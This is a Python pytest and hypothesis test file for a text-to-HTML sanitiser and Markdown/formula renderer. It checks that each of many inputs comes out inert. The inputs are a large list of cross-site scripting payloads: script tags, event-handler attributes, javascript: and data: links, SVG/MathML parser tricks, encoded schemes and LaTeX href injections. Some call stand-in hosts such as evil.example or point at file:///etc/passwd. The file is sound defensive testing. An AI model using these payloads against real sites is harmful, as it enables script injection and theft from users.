"""A text full of HTML, script, links and tricks comes out inert: from both layers together, and from each alone."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpers_html import ALLOWED, Audit
from smcs.studio import markdown, text
from smcs.studio.text import to_html

_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</p><script>alert(1)</script><p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://a.example' target=_self rel=opener ping=https://evil.example download>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=key><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'https://evil.example/x.css';</style><p style='background:url(https://evil.example)'>x</p>",
    "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example><object data=x></object><embed src=x><video src=x><audio src=x>",
    "<!-- comment --><!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)><mi href=javascript:alert(1) onclick=alert(1) style=x id=y>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation encoding=TeX>x</annotation></semantics></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><details open ontoggle=alert(1)>x</details>",
    "<div class='q-dialog fixed-full smcs-header' id=content tabindex=5 role=alert aria-label=x data-x=y>x</div>",
    "<span class='smcs-text-host evil' style=color:red>x</span><ol start=javascript:alert(1)><li value=3>x</li></ol>",
    "<plaintext>x<xmp><listing><textarea><title></title><script>alert(1)</script>",
    "<body onload=alert(1)><frameset><frame src=x></frameset><marquee onstart=alert(1)>x</marquee>",
    "<a <b <c onclick=alert(1)",
    "<<script>alert(1)//<</script>",
    "<p/onclick=alert(1)>x",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
]
_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd) [x](blob:https://a.example/x) [x](intent://x) [x](about:blank) [x](ftp://a.example)",
    "[x](//evil.example) [x](/runs/1) [x](#content) [x](?a=b) [x](..) [x]()",
    "[x](https:evil.example) [x](https:///evil.example) [x](http://) [x](https://?x) [x](mailto:) [x](mailto:x)",
    '[x](https://a.example/"onclick=alert(1)//)',
    '[x](https://a.example "a" onclick="alert(1)")',
    '[x](<https://a.example/"><script>alert(1)</script>>)',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x](https://a.example/%22%3E%3Cscript%3E)",
    "[x](https://[::1]/) [x](https://[evil/) [x](https://a.example:99999999/) [x](http://\u202e.example/)",
    '<javascript:alert(1)> <vbscript:x> <data:text/html,x> <https://a.example/"onclick=x> <a@b.example>',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: data:text/html,x 'title'",
    '[1]\n\n[1]: https://a.example "x\\" onclick=alert(1)"',
    "[x][y]\n\n[y]: <javascript:alert(1)>\n[y]: https://a.example",
    "![x](javascript:alert(1)) ![x](https://evil.example/p.png) ![x][1]\n\n[1]: https://evil.example/p.png",
    "![![x](https://a.example)](https://evil.example) [![x](https://a.example)](https://b.example)",
    '![<script>alert(1)</script>](x) !["onerror=alert(1)](https://a.example)',
    "[<img src=x onerror=alert(1)>](https://a.example) [a](https://b.example 'c') [*a](https://d.example)*",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "````\n```\n</code><script>\n````\n~~~html\n<script>alert(1)</script>\n~~~",
    "`</code><script>alert(1)</script>` ``<img src=x onerror=alert(1)>``",
    '| <script>alert(1)</script> | b |\n|--|:-:" onclick="x|\n| [x](javascript:x) | ![x](y) |',
    "| a |\n|:-:|\n| <td style=x> |",
    "# <script>alert(1)</script> {#id onclick=x}\n\nx {: onclick=x}\n=====",
    "> <script>\n> alert(1)\n> </script>\n\n- <iframe>\n  1. <svg onload=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script&#x3e; &#0; &#xd800; &#x202e; &#x110000;",
    "<br onload=alert(1)> <br/onclick=x> <br\n> <br></br>",
    "\x00<script>\x00</script> <scr\x00ipt> \ud800<script>\udfff \ufeff<script>",
    "\u202e<script>\u202c \u2066[x](javascript:x)\u2069 \x1b]8;;https://evil.example\x07x \U000e003cscript\U000e003e",
    "*<script>*alert(1)*</script>* **[x](javascript:x)** ~~<img src=x>~~",
    "{{ constructor.constructor('alert(1)')() }} ${alert(1)} <%= 1 %> {% raw %}",
]
_FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$ $\mbox{&#x3c;script&#x3e;}$",
    r"$\unicode{3c}script\unicode{3e}$ $\unicode{x202e}$ $\unicode{0}$ $\unicode{d800}$ $\unicode{;<img src=x>}$",
    r"$\class{q-dialog}{x}$ $\style{position:fixed}{x}$ $\class{a' onclick='b}{x}$",
    r"$\color{red' onclick='alert(1)}{x}$ $\textcolor{expression(1)}{x}$ $\colorbox{url(x)}{y}$ $\fcolorbox{a}{b}{c}$",
    r"$\rule{999em}{999em}$ $\hspace{-999em}$ $\kern99999px$ $\raise99em{x}$ $\hspace{1e9em}$ $\hskip{50%}$",
    r"$\begin{array}{c|c}<script> & x \\ y & z\end{array}$ $\begin{script}x\end{script}$ $\begin{svg}x\end{svg}$",
    r"$\operatorname{<script>}$ $\operatorname{a}$ $\verb|<script>alert(1)</script>|$ $\tag{<b>}$",
    r"$</math><script>alert(1)</script>$ $\mathbb{<}$ $\mathrm{&}$ $\left<x\right>$ $a<b>c$",
    r"$$\def\a{\a\a}\a$$ $$\newcommand{\x}{<script>}\x$$ $$\DeclareMathOperator{\y}{<script>}\y$$",
    r"$$\newenvironment{e}{<script>}{</script>}\begin{e}x\end{e}$$ $\genfrac<>{0pt}{0}{a}{b}$",
    r"\(\mathchoice{<i>}{<b>}{<u>}{<s>}\) \[\above{99em}x\] \(\Huge\Huge\Huge\Huge x\)",
    r"\[<!-- x -->\] \[<![CDATA[x]]>\] \(<mglyph src=x>\) \(<annotation-xml>\)",
    r"$\text{[x](javascript:alert(1))}$ [$x$](javascript:alert(1)) [$\href{javascript:x}{y}$](https://a.example)",
    "$`<script>`$ `$<script>$` $$\n<script>\n$$",
]
_ATTACKS = [*_HTML, *_MARKDOWN, *_FORMULAS]


def safe(html: str) -> Audit:
    """Read HTML that must be inert."""
    audit = Audit(html)
    assert audit.problems == []
    for link in audit.links:
        assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer nofollow")
    return audit


@pytest.mark.parametrize("attack", _ATTACKS)
def test_comes_out_inert(attack: str) -> None:
    html = to_html(attack)
    safe(html)
    assert text._CLEANER.clean(html) == html


@pytest.mark.parametrize("attack", [attack for attack in _HTML if "&" not in attack])
def test_html_is_shown_as_text(attack: str) -> None:
    audit = safe(to_html(attack))
    assert not {"a", "table"} & set(audit.tags)
    assert "".join(audit.text.split()) == "".join(attack.split())


@pytest.mark.parametrize("attack", _ATTACKS)
def test_markdown_alone_writes_nothing_unknown(attack: str) -> None:
    """Without the sanitiser: no element or link of the attacker's own."""
    audit = Audit(markdown.render(text.printable(attack)))
    hidden = "a control character or lone surrogate"
    assert [problem for problem in audit.problems if problem != hidden] == []


@pytest.mark.parametrize("attack", _ATTACKS)
def test_sanitiser_alone_lets_nothing_through(attack: str) -> None:
    """Without Markdown: what the attacker wrote, as HTML."""
    audit = Audit(text._CLEANER.clean(text.printable(attack)))
    # Elements in odd places and odd values of harmless attributes are no danger, and Markdown never writes them.
    kinds = ("element", "comment", "declaration", "instruction", "section")
    assert [problem for problem in audit.problems if problem.startswith(kinds)] == []
    assert audit.attributes <= ALLOWED.keys()
    for link in audit.links:
        assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer nofollow")
        assert str(link.get("href", "https:")).startswith(("http:", "https:", "mailto:"))


def test_good_links_and_formulas_are_not_lost_among_attacks() -> None:
    audit = safe(to_html("\n\n".join(_ATTACKS) + "\n\n[good](https://good.example/) $q$"))
    assert "https://good.example/" in [link.get("href") for link in audit.links]
    assert "math" in audit.tags
    assert audit.text.endswith("good q\n")


@given(st.text(st.characters(exclude_categories=())))
def test_any_text(source: str) -> None:
    safe(to_html(source))


_PIECES = st.one_of(
    st.sampled_from(_ATTACKS),
    st.sampled_from("[]()<>*_`~!|\\$&#;:\"'=-+{}\n\t /"),
    st.sampled_from(["\n\n", "$$", "```", "\\(", "\\)", "\\[", "\\]", "> ", "- ", "1. ", "    "]),
    st.sampled_from(["https://a.example", "javascript:", "script", "&#x3c;", "&Tab;", "mailto:a@b", "x", "[1]: "]),
    st.text(max_size=5),
)


@given(st.lists(_PIECES, max_size=12))
def test_any_mixture_of_attacks(pieces: list[str]) -> None:
    html = to_html("".join(pieces))
    safe(html)
    assert text._CLEANER.clean(html) == html


@given(st.sampled_from(_ATTACKS), st.integers(0, 200), st.integers(0, 200))
def test_any_piece_of_an_attack(attack: str, begin: int, end: int) -> None:
    safe(to_html(attack[begin : begin + end]))
    safe(to_html(attack[:begin] + attack[end:]))
